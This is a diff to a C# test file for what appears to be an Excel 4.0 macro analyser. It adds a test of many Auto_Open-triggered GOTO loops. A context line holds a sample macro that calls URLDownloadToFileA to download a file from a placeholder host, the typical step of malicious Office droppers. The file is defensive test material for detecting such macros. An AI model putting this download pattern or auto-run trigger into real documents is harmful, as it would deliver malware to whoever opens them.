@@ -209,6 +209,16 @@ public sealed class InterpreterTests
     public void Macro_ThatWouldRunForEver_EndsWithoutAMistake(params string[] formulas) => Assert.NotEmpty(Macro(formulas).Modules);
 
     [Fact]
+    public void Loops_InManyPlaces_LeaveStepsForWhatIsReadAfterThem()
+    {
+        var plan = new BookPlan();
+        var sheet = plan.Macros("M");
+        for (var i = 0; i < 50; i++) sheet.Put($"{(char)('A' + i / 2)}{i % 2 * 9 + 1}", $"=GOTO({(char)('A' + i / 2)}{i % 2 * 9 + 1})");
+        for (var i = 0; i < 50; i++) plan.Name("Auto_Open" + i, $"M!{(char)('A' + i / 2)}{i % 2 * 9 + 1}");
+        Assert.DoesNotContain(Look.At("m.xlsm", WorkbookPackage.Xml(plan)).Findings, f => f.Text.Contains("steps", StringComparison.Ordinal));
+    }
+
+    [Fact]
     public void Unknown_PieceOfAnAddress_LeavesAGap()
     {
         var file = Macro("=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"https://a.example/\"&UNKNOWN.THING(1)&\".dat\",\"x\",0,0)", "=HALT()");
